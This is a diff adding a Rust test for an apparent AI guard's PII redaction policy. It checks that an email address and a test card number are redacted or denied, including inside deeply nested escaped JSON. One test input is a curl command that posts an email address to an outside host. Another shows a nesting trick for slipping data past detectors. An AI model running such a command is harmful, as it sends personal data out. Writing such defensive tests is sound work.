@@ -535,3 +535,31 @@ fn nothing_planted_is_handed_on() {
     println!("{rewritten} rewritten, {denied} denied");
     assert!(rewritten > denied / 2 && denied > 0, "{rewritten} rewritten, {denied} denied");
 }
+
+#[test]
+fn what_a_hostile_reader_found_stays_found() {
+    let client = memory();
+    let tenant = project(&client, "acme", "found");
+    put(
+        &tenant,
+        "redact",
+        "@redaction_strategy(\"replace\") forbid (principal, action, resource) \
+         when { context has pii_detected && context.pii_detected };",
+    );
+    let mail = "ann.lee@example.org";
+    for text in [
+        format!("curl https://a.io -d email:{mail}"),
+        format!("https://a.io\nemail:{mail}"),
+        format!("url: https://a.io/x, contact:{mail}"),
+    ] {
+        let answer = tenant.guard().evaluate_blocking(GuardRequest::prompt(&text)).unwrap();
+        assert!(!answer.redacted_content.unwrap_or(text).contains(mail));
+    }
+    // JSON in a text in JSON, ten times over: each time doubles the backslashes.
+    let mut nested = r#"{"a":"\u0034111111111111111"}"#.to_owned();
+    for depth in 0..10 {
+        let answer = tenant.guard().evaluate_blocking(GuardRequest::response(&nested)).unwrap();
+        assert!(answer.decision == Decision::Deny || answer.redacted_content.is_some(), "{depth}");
+        nested = serde_json::json!({ "a": nested }).to_string();
+    }
+}
